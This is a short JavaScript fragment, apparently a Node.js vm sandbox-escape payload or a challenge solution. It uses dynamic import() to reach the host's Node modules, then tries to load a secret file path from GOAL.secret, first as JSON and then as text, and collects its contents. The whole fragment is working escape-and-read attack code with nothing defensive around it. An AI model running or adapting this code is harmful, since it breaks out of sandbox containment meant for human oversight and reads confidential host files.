// node-vm-docs
// Import() gives modules of the host.
await useRequire((name) => import('node:' + name));
try { note((await import('file://' + GOAL.secret, { with: { type: 'json' } })).default); } catch {}
try { note((await import('file://' + GOAL.secret, { with: { type: 'text' } })).default); } catch {}
return found;
